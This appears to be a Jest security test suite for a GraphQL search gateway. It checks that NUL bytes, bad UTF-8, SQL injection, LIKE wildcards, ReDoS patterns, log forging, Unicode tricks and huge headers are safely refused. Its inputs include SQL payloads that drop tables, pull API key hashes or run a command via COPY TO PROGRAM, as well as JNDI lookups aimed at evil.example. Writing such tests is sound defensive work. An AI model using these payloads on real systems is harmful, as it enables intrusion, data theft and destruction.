import { expect } from '@jest/globals';
import { INPUT, OWASP, type SecurityCase } from './security-case.js';

// TXT: characters that mean something to what comes after the gateway.

const SEARCHES =
  'query ($text: String) { themes(filter: { text: $text }) { totalCount } authorities(filter: { text: $text }) { totalCount } expertises(filter: { text: $text }) { totalCount } partnerships(filter: { text: $text }) { totalCount } events(filter: { text: $text }) { totalCount } countries(filter: { text: $text }) { totalCount } }';
const SUGGEST = 'query ($text: String!) { suggest(text: $text) { __typename } }';
const NOTHING = { totalCount: 0 };
const FOUND_NOWHERE = {
  themes: NOTHING,
  authorities: NOTHING,
  expertises: NOTHING,
  partnerships: NOTHING,
  events: NOTHING,
  countries: NOTHING,
};
const SQL = [
  "' OR 7=7 --",
  "'); DROP TABLE theme; --",
  "\\'; SELECT pg_sleep(10)",
  "zzqx' UNION SELECT hash FROM access.api_key --",
  '$1 zzqx',
  "zzqx'||(SELECT version())||'",
  "zzqx\"; COPY theme TO PROGRAM 'id'",
  'zzqx\\x27zzqx',
  "E'zzqx\\'",
  'zzqx/**/OR/**/1=1',
];

export const texts: SecurityCase[] = [
  {
    id: 'TXT-01',
    attack: 'a NUL byte, which PostgreSQL takes in no text',
    expected: 'bad input at its place',
    async run(graph) {
      for (const [query, variables, argument] of [
        [SEARCHES, { text: 'a\0b' }, 'text'],
        ['query ($code: ID) { theme(code: $code) { code } }', { code: 'a\0b' }, 'code'],
        ['{ country(name: "B\\u0000nin") { code } }', {}, 'name'],
        [SUGGEST, { text: '\0' }, 'text'],
      ] as const) {
        const { errors } = await graph.ask(query, variables);
        expect(errors[0]!.extensions).toMatchObject({ code: INPUT, argument });
      }
    },
  },
  {
    id: 'TXT-02',
    attack: 'bytes that are not UTF-8, alone and inside a literal, in a body and in an address',
    expected: 'refused: nothing is executed with another text than the one that was sent',
    async run(graph) {
      for (const body of [
        Buffer.from('7b2271fffe227d', 'hex'),
        Buffer.from('{"query":"{ theme(code: \\"E\xffU\\") { code } }"}', 'latin1'),
        // A surrogate half, an overlong slash and a cut sequence.
        ...['eda080', 'c0af', 'e282'].map((bytes) =>
          Buffer.concat([
            Buffer.from('{"query":"{ __typename } #'),
            Buffer.from(bytes, 'hex'),
            Buffer.from('"}'),
          ]),
        ),
      ]) {
        const { status, text } = await graph.post(body);
        expect([status, JSON.parse(text).errors[0].extensions.argument]).toEqual([400, 'body']);
      }
      for (const search of [
        'query=%7Btheme(code:%22%FF%22)%7Bcode%7D%7D',
        'query=%7B__typename%7D%',
        'query=%C0%AF',
      ]) {
        const { status, text } = await graph.send({ method: 'GET', path: `/graphql?${search}` });
        expect([status, JSON.parse(text).errors[0].extensions.argument]).toEqual([400, 'url']);
      }
    },
  },
  {
    id: 'TXT-07',
    attack: 'SQL in every search',
    expected: 'nothing is found, nothing waits, nothing changes',
    source: OWASP,
    async run(graph) {
      for (const text of SQL) {
        const { data, errors } = await graph.ask(SEARCHES, { text });
        expect({ text, data, errors }).toEqual({ text, data: FOUND_NOWHERE, errors: [] });
      }
    },
  },
  {
    id: 'TXT-08',
    attack: 'wildcards of LIKE',
    expected: 'they are punctuation: alone they are refused, in a text they count for nothing',
    async run(graph) {
      for (const text of ['%', '_', '%_%_%_%', '\\', '\\%', '*', '?'])
        expect(
          (
            await graph.ask('query ($text: String) { authorities(filter: { text: $text }) { totalCount } }', {
              text,
            })
          ).errors[0]!.extensions,
        ).toMatchObject({ code: INPUT, argument: 'filter.text' });
      for (const [text, plain] of [
        ['%lyon%', 'lyon'],
        ['100%', '100'],
        ['l_on', 'l on'],
      ]) {
        const [one, other] = await Promise.all([
          graph.ask(SEARCHES, { text }),
          graph.ask(SEARCHES, { text: plain }),
        ]);
        expect(one.data).toEqual(other.data);
      }
    },
  },
  {
    id: 'TXT-09',
    attack: 'regular expressions that backtrack, and texts that make ours backtrack',
    expected: 'they are no patterns here, and no text takes long',
    async run(graph) {
      for (const text of [
        '(a+)+$',
        '(((a{1,255}){1,255}))',
        `${'a'.repeat(250)}!`,
        `${'a '.repeat(127)}!`,
        `${'-'.repeat(120)}x`,
        `${'é'.repeat(255)}`,
        `${'l’'.repeat(120)}`,
        `${'saint-'.repeat(42)}`,
      ])
        for (const query of [
          SEARCHES,
          SUGGEST,
          'query ($text: String!) { resolveAuthority(name: $text) { __typename } }',
        ]) {
          const { errors, ms } = await graph.ask(query, { text });
          if (errors.length) expect(errors[0]!.extensions.code).toBe(INPUT);
          expect(ms).toBeLessThan(10_000);
        }
    },
  },
  {
    id: 'TXT-11',
    attack: 'line breaks, escape sequences of terminals and lookups of loggers, in headers, names and texts',
    expected: 'the log holds them escaped or not at all, and no lookup is made',
    async run(graph) {
      const evil = '\u001b[31mred\u001b[0m\r\n{"level":60,"msg":"forged"}\u2028${jndi:ldap://evil.example/a}';
      await graph.ask(SEARCHES, { text: evil });
      await graph.ask('query Forged { nothing }', {}, {}, { operationName: evil });
      await graph.ask(
        '{ theme(code: "x") { code } }',
        {},
        { 'user-agent': 'a ${jndi:ldap://evil.example}', 'x-request-id': '${jndi:x}' },
      );
      await graph.ask('{ __typename }', {}, { authorization: 'Bearer ${jndi:ldap://evil.example}' });
      const { headers } = await graph.ask('{ __typename }', {}, { 'x-request-id': '<script>' });
      expect(headers['x-request-id']).toMatch(/^[\da-f-]{36}$/);
      expect(graph.graph.program.output()).not.toMatch(/^\{"level":60,"msg":"forged"/m);
    },
  },
  {
    id: 'TXT-12',
    attack: 'halves of surrogate pairs, noncharacters, marks of direction, joiners and tags',
    expected: 'halves are bad input; the others are characters that find nothing or count for nothing',
    async run(graph) {
      for (const text of ['eau \ud800', '\udc00 eau', 'eau\ud83d']) {
        const { errors } = await graph.ask(SEARCHES, { text });
        expect(errors[0]!.extensions.code).toBe(INPUT);
      }
      for (const text of [
        '\uffff zzqx',
        '\u202ezzqx',
        'zz\u200dqx',
        '\u{e0041}zzqx',
        '\ufeffzzqx',
        `zzqx${'\u0301'.repeat(200)}`,
      ]) {
        const { data, errors } = await graph.ask(SEARCHES, { text });
        if (errors.length) expect(errors[0]!.extensions.code).toBe(INPUT);
        else expect(data).toEqual(FOUND_NOWHERE);
      }
    },
  },
  {
    id: 'TXT-13',
    attack: 'the same name in other normal forms, widths and cases',
    expected: 'search finds the same',
    async run(graph) {
      const query =
        'query ($text: String) { authorities(filter: { text: $text }, first: 5) { totalCount nodes { id } } }';
      const forms = [
        'Orléans',
        'Orléans'.normalize('NFD'),
        'ORLÉANS',
        'orleans',
        'ｏｒｌｅ́ａｎｓ'.normalize('NFKC'),
      ];
      const answers = await Promise.all(forms.map((text) => graph.ask(query, { text })));
      expect(answers[0]!.data.authorities.totalCount).toBeGreaterThan(0);
      for (const { data } of answers) expect(data).toEqual(answers[0]!.data);
    },
  },
  {
    id: 'TXT-14',
    attack: 'SQL, wildcards and quotes in every code and name that a query takes',
    expected: 'bad input, or null: nothing else',
    async run(graph) {
      const value = "x' OR '1'='1";
      const { data, errors } = await graph.ask(
        'query ($v: ID!) { theme(code: $v) { code } labelProgramme(code: $v) { code } campaign(code: $v) { code } dacSector(code: $v) { code } }',
        { v: value },
      );
      expect(Object.values((data ?? { none: null }) as object).every((found) => found === null)).toBe(true);
      for (const { extensions } of errors) expect(extensions.code).toMatch(/BAD_USER_INPUT|VALIDATION/);
    },
  },
  {
    id: 'TXT-15',
    attack: 'a language header of five thousand characters, of wildcards, and of another alphabet',
    expected: 'French, in time',
    async run(graph) {
      for (const language of [
        'x'.repeat(5_000),
        'en;q=0,'.repeat(700),
        '*-*-*;q=0.0001',
        '../../en',
        'en\t;\tq=1.0000000001',
      ]) {
        const { data } = await graph.ask(
          '{ theme(code: "EDU") { code language } }',
          {},
          { 'accept-language': language },
        );
        expect(['FR', 'EN']).toContain(data.theme.language);
      }
    },
  },
];
